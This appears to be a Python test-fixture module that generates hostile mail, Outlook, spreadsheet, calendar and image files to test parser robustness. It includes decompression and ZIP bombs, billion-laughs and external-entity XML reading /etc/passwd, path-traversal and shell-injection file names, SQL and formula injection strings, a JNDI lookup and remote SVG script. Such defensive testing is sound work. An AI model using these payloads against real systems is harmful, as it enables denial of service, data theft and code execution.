"""Hostile: files that mean harm, made as they are needed: bombs, loops, endless nesting, names that lead elsewhere.

Each case is read by one of `tests.exchange.readers`; what it gives is a record or a problem, in little time and memory.
"""

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

from tests.exchange.compound import END, Item, Node, compound, outlook

MEGABYTE = 1024 * 1024
Case = tuple[str, Callable[[], bytes]]
"""Which reader is to read it, and how it is made."""

NAMES = (
    "../../../etc/passwd",
    "..\\..\\Windows\\System32\\drivers\\etc\\hosts",
    "/etc/shadow",
    "C:\\Windows\\notepad.exe",
    "C:evil.txt",
    "\\\\server\\share\\evil.doc",
    "//server/share/evil.doc",
    "\\\\?\\C:\\evil.txt",
    "\\\\.\\PhysicalDrive0",
    "evil.pdf\0.exe",
    "CON",
    "con.txt",
    "NUL.pdf",
    "COM1",
    "lpt9.docx",
    "aux .txt",
    "COM\u00b9.txt",
    "CONIN$",
    "notat.pdf.",
    "notat.pdf ... ",
    ". .",
    "..",
    ".",
    "",
    "   ",
    "~",
    "-rf",
    "$(reboot).txt",
    "`id`.txt",
    "%APPDATA%",
    "a:b.txt",
    "a.txt::$DATA",
    "x" * 5000 + ".pdf",
    "ø" * 300 + ".docx",
    "\U0001f4a3" * 200,
    "a" * 10 + "." + "b" * 400,
    "regning\u202efdp.exe",
    "\u2066a\u2069.txt",
    "linje\r\nBcc: x@y.example",
    "a\x1b[31m.txt",
    "\ud800.txt",
    "a/../../b",
    "....//....//b",
    "%2e%2e%2fb",
    "..%c0%af..",
    "\uff0e\uff0e\uff0fb",
    "\u2215etc\u2215passwd",
    'a|b>c<d?e*f"g',
    "desktop.ini\u200b",
    "file\u0000",
    "\t",
    "\ufeff.txt",
)
"""Names of files that are meant to land elsewhere, to hide what they are, or to be refused by a file system."""

INJECTIONS = (
    "'; DROP TABLE questions; --",
    "' OR '1'='1",
    '" OR ""="',
    "1); DELETE FROM people; --",
    "%",
    "_",
    "\\",
    "%%%%' --",
    "x' UNION SELECT sql FROM sqlite_master --",
    "NEAR(a b, 99999)",
    "a AND OR NOT b",
    '"',
    "words:*",
    "*",
    "(((((",
    "-a",
    "^a",
    "{a b}:c",
    "a\0b",
    "' || (SELECT data FROM contents) || '",
    "'a' & !'b' | 'c':*",
    "\ud800",
    "\U0001f4a3",
    "a" * 20_000,
    "a " * 20_000,
    "$1",
    "?",
    ":id",
    "%(id)s",
    "{kind}",
    "${jndi:ldap://x.example}",
    "\r\n",
    "\u202e",
)
"""What somebody types into a search field, or writes into a file, to reach the database behind it."""

FORMULAS = (
    "=1+1",
    "+45 12 34 56 78",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\ufeff=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://x.example")',
    "＝1+1",
    "＋1",
    "－1",
    "＠a",
    "\u200b=1",
    "|cmd",
    "%00=1",
    "\ud800=1",
)
"""Texts that a sheet program would take for formulas, some behind marks that are left out on the way."""


# ------------------------------------------------------------------------------------------------------ e-mails


def _nested_mails(depth: int) -> bytes:
    return b"Subject: x\nContent-Type: message/rfc822\n\n" * depth + b"Subject: inner\n\ntext\n"


def _nested_parts(depth: int, lines: int = 0) -> bytes:
    heads = (b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (at, at) for at in range(depth))
    return b"Subject: x\n" + b"".join(heads) + b"\n" + b"-\n" * lines


def _head(name: str, value: bytes) -> bytes:
    return b"From: a@b.example\nSubject: x\n" + name.encode() + b": " + value + b"\n\ntext\n"


def _many_parts(count: int, head: bytes = b"") -> bytes:
    part = b"--b\nContent-Type: text/plain" + head + b"\n\nx\n"
    return b"From: a@b.example\nContent-Type: multipart/mixed; boundary=b\n\n" + part * count + b"--b--"


def _many_named() -> bytes:
    from email.message import EmailMessage

    mail = EmailMessage()
    mail["From"], mail["Subject"] = "a@b.example", "x"
    mail.set_content("text")
    for name in NAMES:
        said = name.encode("utf-8", "replace").decode()
        words = base64.b64encode(said.encode()).decode()
        mail.add_attachment(b"data", "application", "octet-stream")
        part = mail.get_payload(len(mail.get_payload()) - 1)
        part.replace_header("Content-Disposition", f'attachment; filename="=?utf-8?B?{words}?="')
    return mail.as_bytes()


def _calls(kind: bytes, body: bytes) -> bytes:
    return b"From: a@b.example\nContent-Type: " + kind + b"\n\n" + body


# -------------------------------------------------------------------------------------------------- Outlook mails


def plain_outlook(**more: object) -> Item:
    """A small mail as Outlook keeps it."""
    return Item({0x001A: "IPM.Note", 0x0037: "x", 0x1000: "text", 0x5D01: "a@b.example", 0x0C1A: "A"}, **more)  # type: ignore[arg-type]


def _outlook_in_outlook(depth: int, size: int = 0) -> bytes:
    item = plain_outlook(attachments=[Item({0x3707: "stor.bin", 0x3701: b"x" * size})] if size else [])
    for _ in range(depth):
        item = plain_outlook(attachments=[Item({0x3707: "x.msg"}, inner=item)])
    return outlook(item)


def _looped_chain() -> bytes:
    """A compound file whose table of sectors leads in a circle."""
    data = bytearray(
        compound([Node("__properties_version1.0", b"x" * 5000), Node("__substg1.0_1000001F", b"y" * 9000)])
    )
    fat = len(data) - 512
    struct.pack_into("<4I", data, fat, 1, 2, 3, 0)
    return bytes(data)


def _looped_directory() -> bytes:
    """A compound file in whose directory a storage is its own child, and siblings lead back to each other."""
    data = bytearray(outlook(plain_outlook()))
    start = 512 + 512 * struct.unpack_from("<I", data, 48)[0]
    for number in range(1, 4):
        struct.pack_into("<3I", data, start + 128 * number + 68, 1, 2, 0)
    return bytes(data)


def _shared_streams() -> bytes:
    """A small compound file of hundreds of streams that all claim the same sectors."""
    streams = [Node(f"__substg1.0_{at:04X}0102", b"x" * 5000) for at in range(400)]
    data = compound([Node("__properties_version1.0", b"\0" * 32), *streams])
    return data.replace(struct.pack("<I", 5000), struct.pack("<I", 2_000_000))


def _bare_compound(entries: int) -> bytes:
    return compound([Node("__properties_version1.0", b"\0" * 32), *(Node(f"n{at}", b"x") for at in range(entries))])


def _deep_storages(depth: int) -> bytes:
    node = Node("s", None, [Node("a", b"x")])
    for _ in range(depth):
        node = Node("s", None, [node])
    return compound([Node("__properties_version1.0", b"\0" * 32), node])


def _rich(text: bytes, claimed: int = 0) -> bytes:
    packed = struct.pack("<II4sI", len(text) + 12, claimed or len(text), b"MELA", 0) + text
    return outlook(Item({0x001A: "IPM.Note", 0x0037: "x", 0x1009: packed}))


def _packed_bomb() -> bytes:
    """Rich text that unpacks to far more than it is: copies of copies."""
    body = b"\xff" + b"\x00\x0f" * 8
    packed = struct.pack("<II4sI", 0, 2**32 - 1, b"LZFu", 0) + body * 180_000
    return outlook(Item({0x001A: "IPM.Note", 0x0037: "x", 0x1009: packed}))


# --------------------------------------------------------------------------------------------------------- tables

_SHEET = "xl/worksheets/sheet1.xml"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


_STRINGS = (
    b'<Override PartName="/xl/sharedStrings.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)


def book(**parts: bytes) -> bytes:
    """A small XLSX file with some parts put in place of its own: sheet, strings, styles, workbook."""
    from openpyxl import Workbook

    made, out, changed = Workbook(), io.BytesIO(), io.BytesIO()
    sheet = made.active
    assert sheet is not None
    for row in (["Navn", "Parti"], ["Mette", "A"]):
        sheet.append(row)
    made.save(out)
    paths = {
        "sheet": _SHEET,
        "strings": "xl/sharedStrings.xml",
        "styles": "xl/styles.xml",
        "workbook": "xl/workbook.xml",
        "types": "[Content_Types].xml",
    }
    new = {paths[name]: data for name, data in parts.items()}
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as made_new:
        for name in old.namelist():
            held = new.pop(name, old.read(name))
            held = held.replace(b"</Types>", _STRINGS + b"</Types>") if name == paths["types"] and new else held
            made_new.writestr(name, held)
        for name, data in new.items():
            made_new.writestr(name, data)
    return changed.getvalue()


def _rows(xml: bytes, before: bytes = b"") -> bytes:
    return before + b'<worksheet xmlns="' + _MAIN.encode() + b'"><sheetData>' + xml + b"</sheetData></worksheet>"


def _laughs(levels: int = 9, width: int = 10) -> bytes:
    lines = [b'<!ENTITY a0 "haha">']
    for at in range(1, levels):
        lines.append(b'<!ENTITY a%d "%s">' % (at, b"&a%d;" % (at - 1) * width))
    return b"<!DOCTYPE x [" + b"".join(lines) + b"]>"


def _said(value: bytes) -> bytes:
    return b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + value + b"</t></is></c></row>"


def _quadratic() -> bytes:
    return b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 200_000 + b'">]>'


def _external(path: bytes = b"file:///etc/passwd") -> bytes:
    return b'<!DOCTYPE x [<!ENTITY a SYSTEM "' + path + b'">]>'


def _overlapping() -> bytes:
    """A ZIP whose many entries are one and the same block of packed zeros."""
    packed = zlib.compress(b"\0" * MEGABYTE, 9)[2:-4]
    crc = zlib.crc32(b"\0" * MEGABYTE)
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed), MEGABYTE, 1, 0) + b"a"
    body = local + packed
    entries = b""
    for at in range(5000):
        name = b"%05d" % at
        fields = (b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(packed), MEGABYTE, len(name), 0, 0, 0, 0, 0, 0)
        entries += struct.pack("<4s6H3I5H2I", *fields) + name
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 5000, 5000, len(entries), len(body), 0)
    return body + entries + end


def _lying() -> bytes:
    """An XLSX file whose sheet says that it is small, and is not."""
    data = bytearray(book(sheet=_rows(b"<row/>" * 9 * MEGABYTE)))
    at = data.rfind(_SHEET.encode()) - 46
    struct.pack_into("<I", data, at + 24, 1000)
    return bytes(data)


# ---------------------------------------------------------------------------------------------------- calendars


def calendar(*entries: str) -> bytes:
    """A calendar file with some entries' lines."""
    events = "".join(f"BEGIN:VEVENT\r\n{each}\r\nEND:VEVENT\r\n" for each in entries)
    return f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\n{events}END:VCALENDAR\r\n".encode()


def _zoned(rule: str, count: int = 1) -> bytes:
    part = (
        "BEGIN:STANDARD\r\nDTSTART:16010101T000000\r\nTZOFFSETFROM:+0200\r\nTZOFFSETTO:+0100\r\n"
        + rule
        + "\r\nEND:STANDARD\r\n"
    )
    zones = "".join(f"BEGIN:VTIMEZONE\r\nTZID:Z{at}\r\n{part}END:VTIMEZONE\r\n" for at in range(count))
    event = "BEGIN:VEVENT\r\nUID:1\r\nSUMMARY:x\r\nDTSTART;TZID=Z0:20261120T100000\r\nEND:VEVENT\r\n"
    return f"BEGIN:VCALENDAR\r\n{zones}{event}END:VCALENDAR\r\n".encode()


def _repeating(rule: str, count: int = 1, more: str = "") -> bytes:
    return calendar(*(f"UID:{at}\r\nDTSTART:19800101T100000\r\nSUMMARY:x\r\nRRULE:{rule}{more}" for at in range(count)))


# ----------------------------------------------------------------------------------------------------- pictures


def chunk(kind: bytes, data: bytes) -> bytes:
    """One block of a PNG file."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(wide: int, high: int, data: bytes | None = None, before: bytes = b"", kind: int = 6) -> bytes:
    """A PNG file that claims a size, with the packed bytes given, and blocks before them."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", wide, high, 8, kind, 0, 0, 0))
    packed = zlib.compress(b"\0" * 1000) if data is None else data
    return b"\x89PNG\r\n\x1a\n" + head + before + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def _zeros(size: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(b"\0" * MEGABYTE) for _ in range(size // MEGABYTE)) + packer.flush()


def jpeg(wide: int = 64, high: int = 64, progressive: bool = False) -> bytes:
    """A JPEG file."""
    out = io.BytesIO()
    Image.effect_noise((wide, high), 60).save(out, "JPEG", progressive=progressive, quality=60)
    return out.getvalue()


def _scans(count: int) -> bytes:
    """A progressive JPEG of thirty million pixels that is drawn over again many times, each in a few bytes."""
    out = io.BytesIO()
    Image.new("L", (5472, 5472), 90).save(out, "JPEG", progressive=True, quality=30)
    data = out.getvalue()[:-2]
    last = data.rfind(b"\xff\xda")
    return data + data[last:] * count + b"\xff\xd9"


# ----------------------------------------------------------------------------------------------------- drawings


def drawing(body: str, head: str = 'viewBox="0 0 100 50"', before: str = "") -> bytes:
    """An SVG file."""
    space = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f"{before}<svg {space} {head}>{body}</svg>".encode()


def _uses(levels: int, width: int = 10) -> bytes:
    parts = ['<g id="g0"><rect width="9" height="9"/></g>']
    for at in range(1, levels):
        parts.append(f'<g id="g{at}">' + f'<use href="#g{at - 1}"/>' * width + "</g>")
    return drawing("".join(parts))


def _carried(data: bytes, kind: str) -> bytes:
    return drawing(
        f'<image width="100" height="50" href="data:image/{kind};base64,{base64.b64encode(data).decode()}"/>'
    )


_RECT = '<rect width="50" height="20"/>'

CASES: dict[str, Case] = {
    "mail: nested 1000 deep": ("mail", lambda: _nested_mails(1000)),
    "mail: nested 100,000 deep": ("mail", lambda: _nested_mails(100_000)),
    "mail: parts 300 deep, a million lines": ("mail", lambda: _nested_parts(300, MEGABYTE)),
    "mail: parts 100,000 deep": ("mail", lambda: _nested_parts(100_000)),
    "mail: subject of 10 MB": ("mail", lambda: _head("Subject", b"=?utf-8?B?aGVq?= " * (10 * MEGABYTE // 17))),
    "mail: folded header of 10 MB": ("mail", lambda: _head("X-A", b"a\n " * (10 * MEGABYTE // 3))),
    "mail: parameters of 10 MB": ("mail", lambda: _head("Content-Type", b"multipart/mixed" + b";a" * 5 * MEGABYTE)),
    "mail: quotes of 10 MB": ("mail", lambda: _head("Content-Type", b'a/b; c="' + b'\\";"' * 2_500_000)),
    "mail: continued parameters": (
        "mail",
        lambda: _head("Content-Type", b"a/b" + b"".join(b"; n*%d*=''x" % at for at in range(400_000))),
    ),
    "mail: recipients of 10 MB": ("mail", lambda: _head("To", b"(" * 10 * MEGABYTE)),
    "mail: 200 lists of recipients": (
        "mail",
        lambda: b"".join(b"To: " + b'"a<' * 60_000 + b"\n" for _ in range(200)) + b"\nx",
    ),
    "mail: a million headers": ("mail", lambda: b"Received: from a; Fri, 32 Nov 2026\n" * MEGABYTE + b"\nx"),
    "mail: 15 million headers": ("mail", lambda: b"a:\n" * 15 * MEGABYTE + b"\nx"),
    "mail: 25 million lines": ("mail", lambda: _calls(b"text/plain", b"x\n" * 24 * MEGABYTE)),
    "mail: lines of a multipart": ("mail", lambda: _calls(b"multipart/mixed; boundary=b", b"-\n" * 24 * MEGABYTE)),
    "mail: only line ends": ("mail", lambda: _calls(b"multipart/mixed; boundary=b", b"\r" * 45 * MEGABYTE)),
    "mail: 100,000 parts": ("mail", lambda: _many_parts(100_000)),
    "mail: parts with long heads": ("mail", lambda: _many_parts(2400, b'; a="' + b";" * 19_000)),
    "mail: HTML tags": ("mail", lambda: _calls(b"text/html", b"<p><a href=x>" * (10 * MEGABYTE // 13))),
    "mail: open HTML": ("mail", lambda: _calls(b"text/html", b"<" * 20 * MEGABYTE)),
    "mail: HTML quotes": ("mail", lambda: _calls(b"text/html", b"<a b='" * 3 * MEGABYTE)),
    "mail: HTML comments": ("mail", lambda: _calls(b"text/html", b"<!--" * 5 * MEGABYTE)),
    "mail: HTML entities": ("mail", lambda: _calls(b"text/html", b"&#x41;" * 2 * MEGABYTE)),
    "mail: flowed quotes": ("mail", lambda: _calls(b"text/plain; format=flowed", b"> " * 10 * MEGABYTE)),
    "mail: names that lead elsewhere": ("mail", _many_named),
    "msg: mails nested 30 deep": ("mail", lambda: _outlook_in_outlook(30)),
    "msg: nested with a large file": ("mail", lambda: _outlook_in_outlook(8, 5 * MEGABYTE)),
    "msg: looped sectors": ("mail", _looped_chain),
    "msg: looped directory": ("mail", _looped_directory),
    "msg: shared streams": ("mail", _shared_streams),
    "msg: 3000 streams": ("mail", lambda: _bare_compound(3000)),
    "msg: 30,000 streams": ("mail", lambda: _bare_compound(30_000)),
    "msg: storages 900 deep": ("mail", lambda: _deep_storages(900)),
    "msg: rich text of braces": ("mail", lambda: _rich(b"{\\rtf1" + b"{" * 3 * MEGABYTE)),
    "msg: rich text of words": ("mail", lambda: _rich(b"{\\rtf1" + b"\\u1 " * MEGABYTE)),
    "msg: packed rich text": ("mail", _packed_bomb),
    "msg: headers of 3 MB": (
        "mail",
        lambda: outlook(Item({0x0037: "x", 0x007D: "Content-Type: a/b" + ";a" * 1_500_000})),
    ),
    "csv: only separators": ("people", lambda: b"a" + b";" * 19 * MEGABYTE),
    "csv: only line ends": ("people", lambda: b"a;b" + b"\n" * 19 * MEGABYTE),
    "csv: only quotes": ("people", lambda: b'a;b\n"' + b'""' * 9 * MEGABYTE),
    "csv: wide rows": ("people", lambda: (b";" * 199 + b"x\n") * 9900),
    "csv: 9900 people": (
        "people",
        lambda: b"Navn;Parti;Mail\n" + b"".join(b"P%d;A;p%d@b.example\n" % (at, at) for at in range(9900)),
    ),
    "csv: 9900 alike": (
        "people",
        lambda: b"Navn;Parti;Udvalg\n" + b"Mette;A;" + b"\nMette;A;U1, U2".join([b""] * 9900),
    ),
    "csv: committees": (
        "people",
        lambda: b"Navn;Udvalg\n" + b"".join(b"P;" + b"a, " * 40_000 + b"\n" for _ in range(150)),
    ),
    "csv: rulebook rows": (
        "rulebook",
        lambda: b"Afsnit;Regel;Frist\n" + b"A;Tekst 1. marts, 2. april;1. marts hvert aar\n" * 9900,
    ),
    "csv: rulebook digits": (
        "rulebook",
        lambda: (
            b"Afsnit;Regel;Frist\n"
            + b"".join(b"A;" + b"1." * 60_000 + b";" + b"1. " * 40_000 + b"\n" for _ in range(60))
        ),
    ),
    "csv: meetings": ("meetings", lambda: b"Dato;Tid;Udvalg\n" + b"1.2.2027;17:00;Byraad\n" * 9900),
    "csv: blanks between meetings": (
        "meetings",
        lambda: b"Dato;Tid\n" + (b"1.2.2027;" + b" " * 100_000 + b"x\n") * 150,
    ),
    "xlsx: billion laughs in a sheet": ("people", lambda: book(sheet=_rows(_said(b"&a8;"), _laughs()))),
    "xlsx: billion laughs in the book": ("people", lambda: book(workbook=_laughs() + b"<workbook>&a8;</workbook>")),
    "xlsx: billion laughs in the strings": (
        "people",
        lambda: book(strings=_laughs() + b"<sst><si><t>&a8;</t></si></sst>"),
    ),
    "xlsx: quadratic entities": ("people", lambda: book(sheet=_rows(_said(b"&a;" * 20_000), _quadratic()))),
    "xlsx: external entity": ("people", lambda: book(sheet=_rows(_said(b"&a;"), _external()))),
    "xlsx: external entity abroad": (
        "people",
        lambda: book(sheet=_rows(_said(b"&a;"), _external(b"http://127.0.0.1:9/x"))),
    ),
    "xlsx: 48 MB of rows": ("people", lambda: book(sheet=_rows(b"<row/>" * (48 * MEGABYTE // 6)))),
    "xlsx: 48 MB of cells": (
        "people",
        lambda: book(sheet=_rows(b"<row>" + b"<c/>" * (48 * MEGABYTE // 4) + b"</row>")),
    ),
    "xlsx: 48 MB of strings": (
        "people",
        lambda: book(strings=b'<sst xmlns="' + _MAIN.encode() + b'">' + b"<si/>" * (48 * MEGABYTE // 5) + b"</sst>"),
    ),
    "xlsx: 48 MB in one cell": ("people", lambda: book(sheet=_rows(_said(b"a" * 48 * MEGABYTE)))),
    "xlsx: 48 MB of styles": (
        "people",
        lambda: book(
            styles=b'<styleSheet xmlns="'
            + _MAIN.encode()
            + b'"><cellXfs>'
            + b"<xf/>" * (48 * MEGABYTE // 5)
            + b"</cellXfs></styleSheet>"
        ),
    ),
    "xlsx: wide rows": (
        "people",
        lambda: book(sheet=_rows(b"".join(b'<row r="%d"><c r="XFD%d"/></row>' % (at, at) for at in range(1, 50_000)))),
    ),
    "xlsx: far rows": ("people", lambda: book(sheet=_rows(b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>'))),
    "xlsx: elements a million deep": ("people", lambda: book(sheet=b"<a>" * MEGABYTE)),
    "xlsx: 2 GB of zeros": ("people", lambda: book(sheet=b"\0" * 400 * MEGABYTE)),
    "xlsx: overlapping entries": ("people", _overlapping),
    "xlsx: says it is small": ("people", _lying),
    "ics: every second": ("calendar", lambda: _repeating("FREQ=SECONDLY")),
    "ics: endless": ("calendar", lambda: _repeating("FREQ=DAILY;COUNT=999999999", 19_000)),
    "ics: last days for ever": (
        "calendar",
        lambda: _repeating("FREQ=MONTHLY;BYDAY=MO,TU,WE,TH,FR,SA,SU;BYSETPOS=-1", 19_000),
    ),
    "ics: far interval": ("calendar", lambda: _repeating("FREQ=DAILY;INTERVAL=99999999999999999999", 100)),
    "ics: many added days": (
        "calendar",
        lambda: calendar(
            *("UID:1\r\nDTSTART:20260101\r\nRDATE;VALUE=DATE:" + ",".join(["20260101"] * 20_000) for _ in range(100))
        ),
    ),
    "ics: zone by the second": ("calendar", lambda: _zoned("RRULE:FREQ=SECONDLY")),
    "ics: zone by every minute": (
        "calendar",
        lambda: _zoned(
            "RRULE:FREQ=YEARLY;BYHOUR="
            + ",".join(map(str, range(24)))
            + ";BYMINUTE="
            + ",".join(map(str, range(60)))
            + ";BYDAY=MO,TU,WE,TH,FR,SA,SU"
        ),
    ),
    "ics: zone by the day": (
        "calendar",
        lambda: _zoned("RRULE:FREQ=YEARLY;BYMONTH=1,2,3,4,5,6,7,8,9,10,11,12;BYDAY=MO,TU,WE,TH,FR,SA,SU", 500),
    ),
    "ics: a large zone": ("calendar", lambda: _zoned("\r\n".join(["RDATE:19700101T000000"] * 400_000))),
    "ics: 100,000 zones": ("calendar", lambda: _zoned("COMMENT:x", 100_000)),
    "ics: entries of many lines": (
        "calendar",
        lambda: calendar(*("UID:1\r\nDTSTART:20261120T100000\r\n" + "X-A:b\r\n" * 25_000 for _ in range(100))),
    ),
    "ics: entries in entries": (
        "calendar",
        lambda: calendar(*("UID:1\r\nDTSTART:20261120T100000\r\n" + "BEGIN:VALARM\r\n" * 12_000 for _ in range(100))),
    ),
    "ics: 19,000 of one name": (
        "calendar",
        lambda: calendar(*["UID:1\r\nDTSTART:20261120T100000\r\nSUMMARY:x"] * 19_000),
    ),
    "ics: open entries": ("calendar", lambda: b"BEGIN:VCALENDAR\r\n" + b"BEGIN:VEVENT\r\n" * MEGABYTE),
    "ics: parameters": ("calendar", lambda: calendar("UID:1\r\nDTSTART" + ";A=B" * 9900 + ":20261120T100000")),
    "ics: folded lines": (
        "calendar",
        lambda: calendar(
            *("UID:1\r\nSUMMARY:" + "\r\n x" * 45_000 + "\r\nDTSTART:20261120T100000" for _ in range(100))
        ),
    ),
    "png: claims 4 billion pixels": ("logo", lambda: png(65_535, 65_535)),
    "png: claims the most": ("logo", lambda: png(2**31 - 1, 2**31 - 1)),
    "png: 30 million pixels": ("logo", lambda: png(5477, 5477, _zeros(121 * MEGABYTE))),
    "png: one line": ("logo", lambda: png(29_999_999, 1, _zeros(121 * MEGABYTE))),
    "png: too much packed": ("logo", lambda: png(10, 10, _zeros(1024 * MEGABYTE))),
    "png: packed text": ("logo", lambda: png(10, 10, before=chunk(b"zTXt", b"a\0\0" + _zeros(200 * MEGABYTE)))),
    "png: many packed texts": ("logo", lambda: png(10, 10, before=chunk(b"zTXt", b"a\0\0" + _zeros(MEGABYTE)) * 2000)),
    "png: packed profile": ("logo", lambda: png(10, 10, before=chunk(b"iCCP", b"a\0\0" + _zeros(200 * MEGABYTE)))),
    "png: a million blocks": ("logo", lambda: png(10, 10, before=chunk(b"tEXt", b"a\0b") * MEGABYTE)),
    "png: no size": ("logo", lambda: png(0, 0)),
    "png: cut off": ("logo", lambda: png(100, 100)[:60]),
    "jpeg: cut off": ("logo", lambda: jpeg()[:700]),
    "jpeg: drawn 4000 times": ("logo", lambda: _scans(4000)),
    "jpeg: claims the most": ("logo", lambda: _claimed(jpeg())),
    "svg: nested use": ("logo", lambda: _uses(12)),
    "svg: uses itself": ("logo", lambda: drawing('<g id="a"><use href="#a"/></g>')),
    "svg: patterns in patterns": (
        "logo",
        lambda: drawing(
            "".join(
                f'<pattern id="p{at}" width="1" height="1"><rect width="9" height="9" fill="url(#p{at - 1})"/>'
                "</pattern>"
                for at in range(40)
            )
            + '<rect width="99" height="49" fill="url(#p39)"/>'
        ),
    ),
    "svg: a tiny pattern": (
        "logo",
        lambda: drawing(
            '<pattern id="p" width="1e-6" height="1e-6" patternUnits="userSpaceOnUse">'
            '<rect width="1" height="1"/></pattern><rect width="99" height="49" fill="url(#p)"/>'
        ),
    ),
    "svg: huge view box": ("logo", lambda: drawing(_RECT, 'viewBox="0 0 1e30 1e30"')),
    "svg: wide view box": ("logo", lambda: drawing(_RECT, 'viewBox="0 0 900000 1"')),
    "svg: odd view box": ("logo", lambda: drawing(_RECT, 'viewBox="nan nan inf nan"')),
    "svg: billion laughs": ("logo", lambda: drawing("<text>&a8;</text>", before=_laughs().decode())),
    "svg: quadratic entities": (
        "logo",
        lambda: drawing("<text>" + "&a;" * 5000 + "</text>", before=_quadratic().decode()),
    ),
    "svg: external entity": ("logo", lambda: drawing("<text>&a;</text>", before=_external().decode())),
    "svg: outer addresses": (
        "logo",
        lambda: drawing(
            _RECT + '<script href="https://x.example/a.js">alert(1)</script><image href="file:///etc/passwd"/>'
            '<use href="https://x.example/a.svg#b"/>'
            "<style>@import url(https://x.example/a.css); rect{fill:url(https://x.example/#b)}</style>"
        ),
    ),
    "svg: elements a million deep": ("logo", lambda: drawing("<g>" * 500_000)),
    "svg: a long path": ("logo", lambda: drawing('<path d="M0 0' + "L9 9L0 1" * 200_000 + '"/>')),
    "svg: dashes": ("logo", lambda: drawing('<path stroke="red" stroke-dasharray="1e-7" d="M0 0L100 50"/>')),
    "svg: wide strokes": (
        "logo",
        lambda: drawing(
            '<path stroke="red" stroke-width="1e9" stroke-linejoin="round" d="M0 0' + "l1e-9 1e-9" * 9000 + '"/>'
        ),
    ),
    "svg: filters": (
        "logo",
        lambda: drawing(
            '<filter id="f"><feTurbulence numOctaves="999999" baseFrequency="9"/></filter>'
            '<rect filter="url(#f)" width="99" height="49"/>'
        ),
    ),
    "svg: carries a PNG bomb": ("logo", lambda: _carried(png(60_000, 60_000), "png")),
    "svg: carries a packed PNG": ("logo", lambda: _carried(png(3400, 3400, _zeros(200 * MEGABYTE)), "png")),
    "svg: carries a JPEG": ("logo", lambda: _carried(_small_scans(3000), "jpeg")),
    "svg: carries SVG": ("logo", lambda: _carried(_uses(12), "svg+xml")),
    "svg: long styles": ("logo", lambda: drawing("<style>" + "a{" * 900_000 + "</style>" + _RECT)),
    "svg: style comments": ("logo", lambda: drawing("<style>" + "/*" * 900_000 + "</style>" + _RECT)),
    "svg: style letters": ("logo", lambda: drawing("<style>" + "a" * 1_900_000 + "</style>" + _RECT)),
    "svg: style at signs": ("logo", lambda: drawing("<style>" + "@" * 1_900_000 + "</style>" + _RECT)),
    "svg: style comments in an element": ("logo", lambda: drawing(f'<rect width="9" style="{"/*" * 900_000}"/>')),
    "svg: a long length": ("logo", lambda: drawing(_RECT, f'width="{"1" * 1_900_000}x" height="1"')),
    "svg: at-rules": ("logo", lambda: drawing("<style>" + "@a{" * 600_000 + "</style>" + _RECT)),
    "svg: packed": ("logo", lambda: zlib.compress(drawing(_RECT))),
}
"""What is read by which reader; the names say what is meant."""


def _claimed(data: bytes) -> bytes:
    """A JPEG that claims to be as large as one can be."""
    at = data.find(b"\xff\xc0")
    return data[: at + 5] + b"\xff\xff\xff\xff" + data[at + 9 :]


def _small_scans(count: int) -> bytes:
    out = io.BytesIO()
    Image.new("L", (3400, 3400), 90).save(out, "JPEG", progressive=True, quality=30)
    data = out.getvalue()[:-2]
    return data + data[data.rfind(b"\xff\xda") :] * count + b"\xff\xd9"


__all__ = [
    "CASES",
    "END",
    "FORMULAS",
    "INJECTIONS",
    "NAMES",
    "book",
    "calendar",
    "drawing",
    "jpeg",
    "plain_outlook",
    "png",
]
